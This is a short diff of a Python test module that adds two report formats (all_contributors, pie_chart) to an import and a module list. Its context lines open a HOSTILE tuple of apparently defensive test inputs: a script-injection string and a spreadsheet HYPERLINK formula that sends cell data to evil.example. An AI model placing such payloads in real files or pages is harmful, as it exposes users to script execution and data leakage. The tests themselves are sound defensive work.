@@ -20,7 +20,19 @@ from commonscheck.cli import cli
 from commonscheck.cli.reporting import FORMATS as CHOICES
 from commonscheck.cli.reporting import KINDS
 from commonscheck.cli.reporting import STEPS as CHOSEN_STEPS
-from commonscheck.formats.overview import FORMATS, Format, badge, markdown, page, render, sheets, text, whole_json
+from commonscheck.formats.overview import (
+    FORMATS,
+    Format,
+    all_contributors,
+    badge,
+    markdown,
+    page,
+    pie_chart,
+    render,
+    sheets,
+    text,
+    whole_json,
+)
 from commonscheck.formats.overview.mermaid import MOST_LINKS, drawing
 from commonscheck.formats.overview.table import Table, to_the_right
 from commonscheck.formats.overview.tables import tables
@@ -42,7 +54,7 @@ ENDINGS = {"text": "txt", "markdown": "md", "csv": "csv"}
 T = TypeVar("T")
 
 # mypy holds each module against the protocol here, since the table imports them by name.
-MODULES: list[Format] = [badge, markdown, page, sheets, text, whole_json]
+MODULES: list[Format] = [all_contributors, badge, markdown, page, pie_chart, sheets, text, whole_json]
 HOSTILE = (
     "<script>alert(1)</script>",
     '=HYPERLINK("https://evil.example?"&A1)',
